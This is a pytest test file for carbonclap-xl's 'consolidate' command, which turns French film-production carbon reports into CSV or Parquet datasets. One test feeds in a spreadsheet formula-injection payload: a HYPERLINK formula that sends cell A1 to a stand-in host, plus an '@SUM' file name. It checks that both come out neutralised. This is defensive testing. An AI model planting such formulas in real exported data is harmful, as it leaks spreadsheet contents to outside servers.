"""`carbonclap-xl consolidate`: one row per submission × poste × phase, from reports or
workbooks; the CSV in French Excel's format by default (or plain), its text neutralised
against formula injection; Parquet only with pyarrow."""

from __future__ import annotations

import csv
import importlib.util
import json
from pathlib import Path

import pytest
from hostile_corpus import build_entity_bomb
from servicehelpers import TELEFILM, faulty_workbook

from carbonclap_xl.cli import main
from carbonclap_xl.core.model import POSTE_IDS
from carbonclap_xl.service.consolidate import COLUMNS, rows_from_report
from carbonclap_xl.validation.batch import BatchOptions, validate_paths


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> list[dict]:
    directory = tmp_path_factory.mktemp("consolidate")
    paths = [str(TELEFILM), str(faulty_workbook(directory)), str(build_entity_bomb(directory))]
    return list(validate_paths(paths, BatchOptions(jobs=2)))


def read_csv(path: Path) -> list[dict[str, str]]:
    """The default format: French Excel's (BOM, ``;``)."""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))


def test_rows_per_submission_poste_and_phase(reports: list[dict]) -> None:
    telefilm = rows_from_report(reports[0])
    assert len(telefilm) == len(POSTE_IDS) * 2
    assert {(r["poste"], r["phase"]) for r in telefilm} == {
        (p, ph) for p in POSTE_IDS for ph in ("forecast", "final")}
    first = telefilm[0]
    assert first["work_type"] == "Téléfilm" and first["budget_keur"] == 2900.0
    assert first["shooting_days"] == 22.0
    final = [r for r in telefilm if r["phase"] == "final"]
    assert sum(r["kgco2e"] for r in final) == pytest.approx(
        reports[0]["total_kgco2e"]["final"])
    assert sum(r["share_of_phase_total"] for r in final) == pytest.approx(1.0)
    lieux = next(r for r in final if r["poste"] == "lieux")
    assert lieux["poste_kgco2e_per_keur"] == pytest.approx(lieux["kgco2e"] / 2900)
    assert lieux["tco2e_per_hour"] == pytest.approx(
        reports[0]["indicators"]["tco2e_per_hour"]["final"])
    assert rows_from_report(reports[2]) == []  # rejected: no figures, no row


def test_cli_from_a_validate_json_report(reports: list[dict], tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "rapport.json"
    source.write_text(json.dumps({"files": reports}), encoding="utf-8")
    out = tmp_path / "stats" / "dataset.csv"
    # a missing folder is refused, never created
    assert main(["consolidate", str(source), "-o", str(out)]) == 2
    assert "n'existe pas" in capsys.readouterr().err and not out.parent.exists()
    out.parent.mkdir()
    assert main(["consolidate", str(source), "-o", str(out)]) == 0
    rows = read_csv(out)
    assert list(rows[0].keys()) == list(COLUMNS)
    assert len(rows) == 2 * 2 * len(POSTE_IDS)
    said = capsys.readouterr().out
    assert "32 ligne(s) pour 2 dépôt(s) (1 avec erreurs) ; 1 rejeté(s)" in said
    assert not [p for p in out.parent.iterdir() if p.name.endswith(".tmp")]


def test_cli_from_workbooks(tmp_path: Path) -> None:
    out = tmp_path / "dataset.csv"
    assert main(["consolidate", str(TELEFILM), "-o", str(out), "--jobs", "1"]) == 0
    rows = read_csv(out)
    assert len(rows) == 2 * len(POSTE_IDS)
    assert rows[0]["title"] == "Les Nuits de Marseille (téléfilm)"


def test_text_cells_cannot_become_formulas(reports: list[dict], tmp_path: Path) -> None:
    doc = json.loads(json.dumps(reports[0]))
    doc["workbook"]["production"]["title"] = '=HYPERLINK("http://x.test/?"&A1;"Cliquez")'
    doc["file"] = "@SUM(A1).xlsx"
    source = tmp_path / "one.json"
    source.write_text(json.dumps(doc), encoding="utf-8")
    out = tmp_path / "dataset.csv"
    for fmt in ("excel-fr", "plain"):
        assert main(["consolidate", str(source), "-o", str(out), "--csv-format", fmt]) == 0
        if fmt == "plain":
            with open(out, encoding="utf-8", newline="") as fh:
                row = next(csv.DictReader(fh))
        else:
            row = read_csv(out)[0]
        assert row["title"].startswith("'=HYPERLINK")
        assert row["submission"] == "'@SUM(A1).xlsx"


def test_csv_formats(reports: list[dict], tmp_path: Path) -> None:
    """excel-fr: BOM, « ; », decimal commas, figures rounded; plain: today's exact figures."""
    source = tmp_path / "rapport.json"
    source.write_text(json.dumps({"files": reports}), encoding="utf-8")
    out = tmp_path / "dataset.csv"
    assert main(["consolidate", str(source), "-o", str(out)]) == 0
    french = read_csv(out)
    assert main(["consolidate", str(source), "-o", str(out), "--csv-format", "plain"]) == 0
    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf") and b";" not in raw.splitlines()[0]
    plain = list(csv.DictReader(raw.decode("utf-8").splitlines()))
    assert len(french) == len(plain) == 2 * 2 * len(POSTE_IDS)
    assert french[0]["budget_keur"] == "2900" and plain[0]["budget_keur"] == "2900.0"
    assert french[0]["title"] == plain[0]["title"] == "Les Nuits de Marseille (téléfilm)"
    figures = 0
    for fr, en in zip(french, plain, strict=True):
        for column in ("kgco2e", "share_of_phase_total", "budget_keur", "tco2e_per_hour"):
            if not en[column]:
                assert not fr[column]
                continue
            figures += 1
            exact = float(en[column])
            assert "." not in fr[column]
            assert float(fr[column].replace(",", ".")) == pytest.approx(exact, rel=1e-5)
            digits = fr[column].replace(",", "").replace("-", "").lstrip("0")
            assert len(digits) <= max(6, len(str(int(abs(exact))))), fr[column]
    assert figures > 50


def test_parquet_needs_pyarrow(reports: list[dict], tmp_path: Path,
                               capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "rapport.json"
    source.write_text(json.dumps({"files": reports}), encoding="utf-8")
    out = tmp_path / "dataset.parquet"
    code = main(["consolidate", str(source), "-o", str(out)])
    if importlib.util.find_spec("pyarrow") is None:
        assert code == 2 and not out.exists()
        assert "pyarrow" in capsys.readouterr().err
    else:
        import pandas as pd

        assert code == 0
        assert len(pd.read_parquet(out)) == 2 * 2 * len(POSTE_IDS)


def test_bad_inputs_and_outputs_are_one_french_line(tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["consolidate", str(TELEFILM), "-o", str(tmp_path / "x.xlsx")]) == 2
    assert "la sortie doit être un fichier .csv ou .parquet" in capsys.readouterr().err
    notes = tmp_path / "notes.txt"
    notes.write_text("x", encoding="utf-8")
    assert main(["consolidate", str(notes), "-o", str(tmp_path / "x.csv")]) == 2
    assert "rapports .json ou des classeurs" in capsys.readouterr().err
    bad = tmp_path / "bad.json"
    bad.write_text("{", encoding="utf-8")
    assert main(["consolidate", str(bad), "-o", str(tmp_path / "x.csv")]) == 2
    assert "JSON illisible" in capsys.readouterr().err
